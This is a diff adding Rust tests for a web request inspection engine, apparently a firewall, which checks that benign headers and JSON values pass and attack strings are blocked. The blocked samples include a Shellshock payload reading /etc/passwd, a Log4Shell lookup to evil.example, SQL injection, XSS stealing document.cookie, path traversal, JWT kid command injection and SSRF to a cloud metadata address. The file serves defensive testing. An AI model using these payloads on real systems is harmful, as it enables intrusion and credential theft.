@@ -1,0 +1,207 @@
+//! The fast paths (word-only values, plain User-Agents, credentials, plain Referer URLs,
+//! the per-thread memo) must skip only what cannot be an attack: every table below pairs
+//! look-alike legitimate input that passes with attacks in the same place that must stay
+//! blocked.
+#![allow(clippy::unwrap_used, clippy::expect_used)]
+
+use portcullis_inspect::{Class, Engine, Inspection, Request, Settings};
+
+fn engine() -> Engine {
+    Engine::new(Settings::default())
+}
+
+fn with_header(name: &str, value: &str) -> Inspection {
+    let headers: Vec<(&str, &[u8])> = vec![(name, value.as_bytes())];
+    engine().inspect(&Request {
+        method: "GET",
+        path: "/v1/orders",
+        query: None,
+        headers: &headers,
+        body: b"",
+    })
+}
+
+fn json_value(v: &str) -> Inspection {
+    let body = serde_json::json!({ "v": v }).to_string();
+    let headers: Vec<(&str, &[u8])> = vec![("content-type", b"application/json")];
+    engine().inspect(&Request {
+        method: "POST",
+        path: "/v1/orders",
+        query: None,
+        headers: &headers,
+        body: body.as_bytes(),
+    })
+}
+
+fn b64url(s: &str) -> String {
+    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
+    let b = s.as_bytes();
+    let mut out = String::new();
+    for chunk in b.chunks(3) {
+        let n = chunk
+            .iter()
+            .enumerate()
+            .fold(0u32, |acc, (i, &x)| acc | u32::from(x) << (16 - 8 * i));
+        for i in 0..=chunk.len() {
+            out.push(char::from(A[(n >> (18 - 6 * i)) as usize & 63]));
+        }
+    }
+    out
+}
+
+fn jwt(header: &str) -> String {
+    format!(
+        "Bearer {}.{}.c2lnbmF0dXJlLW5vdC1jaGVja2VkLWhlcmU",
+        b64url(header),
+        b64url(r#"{"sub":"7f3c2a90-1b6e-4c8a-9d2f-0e5a6b7c8d91","name":"Siobhan O'Brien"}"#)
+    )
+}
+
+#[test]
+fn ordinary_user_agents_pass_injected_ones_block() {
+    for ua in [
+        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:105.0) Gecko/20100101 Firefox/105.0",
+        "Dalvik/2.1.0 (Linux; U; Android 13; SM-S918B Build/TP1A.220624.014)",
+        "okhttp/4.12.0",
+        "python-requests/2.31.0",
+    ] {
+        let out = with_header("user-agent", ua);
+        assert!(out.findings.is_empty(), "{ua}: {:?}", out.findings);
+    }
+    for ua in [
+        "() { :; }; /bin/bash -c 'cat /etc/passwd'",
+        "Mozilla/5.0 (X11; Linux) ' or 1=1--",
+        "Mozilla/5.0 ${jndi:ldap://evil.example/a}",
+        "Mozilla/5.0 (X11; 1 union select 1,2,3)",
+        "<script>alert(1)</script>",
+        "Mozilla/5.0 (X11; Linux) ../../../../etc/passwd",
+    ] {
+        assert!(with_header("user-agent", ua).blocked, "{ua}");
+    }
+}
+
+#[test]
+fn jwt_header_is_judged_and_never_shown() {
+    let plain = jwt(r#"{"alg":"RS256","typ":"JWT","kid":"2024-06-key-1"}"#);
+    let out = with_header("authorization", &plain);
+    assert!(!out.blocked, "{:?}", out.findings);
+    for header in [
+        r#"{"alg":"HS256","kid":"../../../../../../dev/null"}"#,
+        r#"{"alg":"HS256","kid":"x' union select 'secret"}"#,
+        r#"{"alg":"HS256","kid":"key1|/usr/bin/id"}"#,
+        r#"{"alg":"RS256","jku":"http://169.254.169.254/latest/meta-data/"}"#,
+    ] {
+        let out = with_header("authorization", &jwt(header));
+        assert!(out.blocked, "{header}");
+        for f in &out.findings {
+            assert!(
+                f.location.starts_with("header.authorization"),
+                "{}",
+                f.location
+            );
+            assert!(!f.evidence.contains("union") && !f.evidence.contains("dev/null"));
+        }
+    }
+}
+
+#[test]
+fn basic_credentials_are_decoded_and_judged() {
+    // base64("admin' or '1'='1:x") and base64("alice:correct horse battery staple")
+    let out = with_header("authorization", "Basic YWRtaW4nIG9yICcxJz0nMTp4");
+    assert!(out.blocked);
+    assert!(out.findings.iter().all(|f| !f.evidence.contains("admin")));
+    let out = with_header(
+        "authorization",
+        "Basic YWxpY2U6Y29ycmVjdCBob3JzZSBiYXR0ZXJ5IHN0YXBsZQ==",
+    );
+    assert!(!out.blocked, "{:?}", out.findings);
+    // A credential that is not a well-formed token is judged whole.
+    assert!(with_header("authorization", "Bearer ' or 1=1--").blocked);
+}
+
+#[test]
+fn plain_referers_pass_their_parameters_are_judged() {
+    for r in [
+        "https://www.google.com/search?q=oak+garden+table",
+        "https://shop.example.com/orders?page=2&sort=recent",
+        "https://www.example.org/",
+    ] {
+        let out = with_header("referer", r);
+        assert!(out.findings.is_empty(), "{r}: {:?}", out.findings);
+    }
+    for r in [
+        "https://shop.example.com/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
+        "https://shop.example.com/search?q=1%27%20or%201%3D1--",
+        "https://shop.example.com/?%3Csvg%20onload%3Dalert(1)%3E",
+        "https://shop.example.com/../../../../etc/passwd",
+        "javascript:alert(document.cookie)",
+    ] {
+        assert!(with_header("referer", r).blocked, "{r}");
+    }
+}
+
+#[test]
+fn word_only_values_keep_their_word_attacks() {
+    for v in [
+        "1 union select 1,2,3",
+        "1 procedure analyse",
+        "169.254.169.254",
+        "metadata.google.internal",
+        "web.config",
+        "java.lang.Runtime",
+        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
+    ] {
+        assert!(json_value(v).blocked, "{v}");
+    }
+    for v in [
+        "select a plan",
+        "drop-down",
+        "O'Brien",
+        "Siobhan O'Brien",
+        "7f3c2a90-1b6e-4c8a-9d2f-0e5a6b7c8d91",
+        "en-GB",
+        "created_at",
+        "Chrome 124 on macOS",
+        "Loved it <3",
+        "SKU-1042-GRN",
+    ] {
+        let out = json_value(v);
+        assert!(!out.blocked, "{v}: {:?}", out.findings);
+    }
+}
+
+#[test]
+fn memo_keeps_verdicts_per_origin() {
+    // The same word as a JSON key and as a JSON value is judged differently; the memo
+    // must not hand one place the other's verdict, in either order.
+    let headers: Vec<(&str, &[u8])> = vec![("content-type", b"application/json")];
+    let inspect = |body: &str| {
+        engine().inspect(&Request {
+            method: "POST",
+            path: "/",
+            query: None,
+            headers: &headers,
+            body: body.as_bytes(),
+        })
+    };
+    for _ in 0..3 {
+        let as_key = inspect(r#"{"__proto__":{"admin":true}}"#);
+        let as_value = inspect(r#"{"note":"__proto__"}"#);
+        let key_score = as_key
+            .findings
+            .iter()
+            .find(|f| f.class == Class::PrototypePollution)
+            .map(|f| f.score);
+        let value_score = as_value
+            .findings
+            .iter()
+            .find(|f| f.class == Class::PrototypePollution)
+            .map_or(0, |f| f.score);
+        assert!(as_key.blocked);
+        assert!(key_score > Some(value_score), "{key_score:?} {value_score}");
+    }
+    // Same request twice: same findings.
+    let body = r#"{"q":"information_schema","user":"whoami"}"#;
+    assert_eq!(inspect(body), inspect(body));
+}
